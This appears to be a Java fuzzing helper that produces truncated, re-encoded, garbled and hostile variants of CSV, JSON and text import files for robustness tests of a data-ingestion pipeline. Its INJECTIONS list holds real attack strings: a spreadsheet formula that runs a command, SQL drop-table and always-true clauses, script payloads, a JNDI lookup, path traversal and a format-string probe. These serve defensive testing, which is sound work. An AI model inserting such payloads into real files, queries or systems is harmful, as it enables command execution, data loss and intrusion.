package org.troika.ingest.robustness;

import java.io.IOException;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;

/**
 * Makes damaged and hostile variants of real import files, reproducibly from a seed: cut short, in the wrong
 * encoding, with binary garbage, with huge cells, with formula, SQL and HTML injection strings, with unknown
 * State names, with broken quoting. Each variant says what was done to it, for the failure message.
 */
final class MutatedInputs {

    record Input(String name, byte[] bytes, String how) {
    }

    static final List<String> INJECTIONS = List.of("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid\")", "+1+1", "@SUM(A1:A9)",
            "'; DROP TABLE recommendation; --", "1 OR 1=1", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "${jndi:ldap://example.invalid/a}", "../../etc/passwd", "%s%s%s%n", "\\N", "NULL");

    private final Random random;
    private final List<List<String>> rows;
    private final List<String> header;
    private final List<String> reports;

    MutatedInputs(long seed, List<String> header, List<List<String>> rows, List<String> reports) {
        this.random = new Random(seed);
        this.header = header;
        this.rows = rows;
        this.reports = reports;
    }

    Input next(int n) {
        int kind = random.nextInt(10);
        if (kind < 6) {
            return csv(n);
        }
        if (kind < 8) {
            return report(n);
        }
        return json(n);
    }

    private Input csv(int n) {
        List<List<String>> picked = window();
        List<String> how = new ArrayList<>();
        List<String> head = new ArrayList<>(header);
        if (random.nextInt(8) == 0) {
            int i = random.nextInt(head.size());
            head.set(i, head.get(i) + "_renamed");
            how.add("renamed column " + header.get(i));
        }
        for (int m = random.nextInt(3); m >= 0; m--) {
            cellMutation(picked, how);
        }
        String text = csvText(head, picked);
        return bytesMutation(new Input("case-" + n + ".csv", text.getBytes(StandardCharsets.UTF_8), String.join(", ", how)));
    }

    private Input json(int n) {
        List<List<String>> picked = window();
        List<String> how = new ArrayList<>();
        for (int m = random.nextInt(3); m >= 0; m--) {
            cellMutation(picked, how);
        }
        StringBuilder json = new StringBuilder("[\n");
        for (int r = 0; r < picked.size(); r++) {
            List<String> row = picked.get(r);
            json.append(" {\"stateUnderReview\": ").append(quote(cell(row, "sur_iso3"))).append(", \"session\": ").append(quote(cell(row, "session")))
                    .append(", \"paragraph\": ").append(quote(cell(row, "id"))).append(", \"text\": ").append(quote(cell(row, "recommendation")))
                    .append(", \"states\": [").append(quote(cell(row, "recommending_iso3"))).append("], \"response\": ")
                    .append(quote(cell(row, "response"))).append('}').append(r + 1 < picked.size() ? ",\n" : "\n");
        }
        json.append(']');
        return bytesMutation(new Input("case-" + n + ".json", json.toString().getBytes(StandardCharsets.UTF_8), "json; " + String.join(", ", how)));
    }

    private Input report(int n) {
        String text = reports.get(random.nextInt(reports.size()));
        List<String> how = new ArrayList<>();
        switch (random.nextInt(5)) {
            case 0 -> {
                text = text.replaceFirst("\\(United Kingdom\\)|\\(Brazil\\)|\\(France\\)", "(Freedonia)");
                how.add("unknown State in a paragraph");
            }
            case 1 -> {
                String injection = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
                text = text.replaceFirst("Ratify", java.util.regex.Matcher.quoteReplacement(injection + " Ratify"));
                how.add("injection " + injection);
            }
            case 2 -> {
                int at = text.indexOf("Ratify");
                text = at < 0 ? text : text.substring(0, at) + "x".repeat(30_000) + text.substring(at);
                how.add("huge paragraph");
            }
            default -> how.add("report as it is");
        }
        return bytesMutation(new Input("case-" + n + ".txt", text.getBytes(StandardCharsets.UTF_8), "report; " + String.join(", ", how)));
    }

    private List<List<String>> window() {
        int size = 1 + random.nextInt(6);
        int from = random.nextInt(rows.size() - size);
        List<List<String>> copy = new ArrayList<>();
        for (List<String> r : rows.subList(from, from + size)) {
            copy.add(new ArrayList<>(r));
        }
        return copy;
    }

    private void cellMutation(List<List<String>> rows, List<String> how) {
        List<String> row = rows.get(random.nextInt(rows.size()));
        switch (random.nextInt(8)) {
            case 0 -> {
                String name = "Freedonia " + random.nextInt(1000);
                set(row, "recommending_state", name);
                set(row, "recommending_iso3", "");
                how.add("unknown State " + name);
            }
            case 1 -> {
                String injection = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
                String column = List.of("recommendation", "response", "recommending_state", "id", "session").get(random.nextInt(5));
                set(row, column, injection);
                if (column.equals("recommending_state")) {
                    set(row, "recommending_iso3", "");
                }
                how.add("injection in " + column + ": " + injection);
            }
            case 2 -> {
                set(row, "recommendation", "y".repeat(random.nextInt(10) == 0 ? 5_000_000 : 25_000));
                how.add("huge text");
            }
            case 3 -> {
                set(row, "session", String.valueOf(random.nextInt(200) - 50));
                how.add("odd session");
            }
            case 4 -> {
                set(row, "response", List.of("", "Accepted", "Rejected", "maybe", "SUPPORTED ").get(random.nextInt(5)));
                how.add("response changed");
            }
            case 5 -> {
                set(row, "recommendation", "");
                how.add("empty text");
            }
            case 6 -> {
                rows.add(new ArrayList<>(row));
                how.add("duplicated row");
            }
            default -> {
                set(row, "recommendation", row.get(header.indexOf("recommendation")) + " \u00e9\u00e8 \u201cquoted\u201d \u2013 \u0421\u0430\u043c");
                how.add("non-ASCII text");
            }
        }
    }

    private Input bytesMutation(Input in) {
        byte[] b = in.bytes();
        String how;
        switch (random.nextInt(12)) {
            case 0 -> {
                b = Arrays.copyOf(b, random.nextInt(b.length + 1));
                how = "truncated to " + b.length + " bytes";
            }
            case 1 -> {
                Charset cs = List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE, StandardCharsets.UTF_16, Charset.forName("windows-1252"),
                        StandardCharsets.ISO_8859_1).get(random.nextInt(5));
                b = new String(b, StandardCharsets.UTF_8).getBytes(cs);
                how = "re-encoded as " + cs.name();
            }
            case 2 -> {
                for (int i = random.nextInt(40) + 1; i > 0 && b.length > 0; i--) {
                    b[random.nextInt(b.length)] = (byte) random.nextInt(256);
                }
                how = "random bytes overwritten";
            }
            case 3 -> {
                b = new byte[random.nextInt(4096)];
                random.nextBytes(b);
                how = "binary garbage";
            }
            case 4 -> {
                String s = new String(b, StandardCharsets.UTF_8);
                int at = random.nextInt(s.length() + 1);
                b = (s.substring(0, at) + "\"" + s.substring(at)).getBytes(StandardCharsets.UTF_8);
                how = "stray quote at " + at;
            }
            default -> how = "bytes intact";
        }
        return new Input(in.name(), b, in.how() + "; " + how);
    }

    private void set(List<String> row, String column, String value) {
        int i = header.indexOf(column);
        if (i >= 0) {
            row.set(i, value);
        }
    }

    private String cell(List<String> row, String column) {
        return row.get(header.indexOf(column));
    }

    private static String quote(String s) {
        StringBuilder q = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> q.append("\\\"");
                case '\\' -> q.append("\\\\");
                case '\n' -> q.append("\\n");
                default -> {
                    if (c < 0x20) {
                        q.append(String.format("\\u%04x", (int) c));
                    } else {
                        q.append(c);
                    }
                }
            }
        }
        return q.append('"').toString();
    }

    private static String csvText(List<String> header, List<List<String>> rows) {
        StringWriter out = new StringWriter();
        try (CSVPrinter csv = new CSVPrinter(out, CSVFormat.RFC4180)) {
            csv.printRecord(header);
            for (List<String> r : rows) {
                csv.printRecord(r);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toString();
    }
}
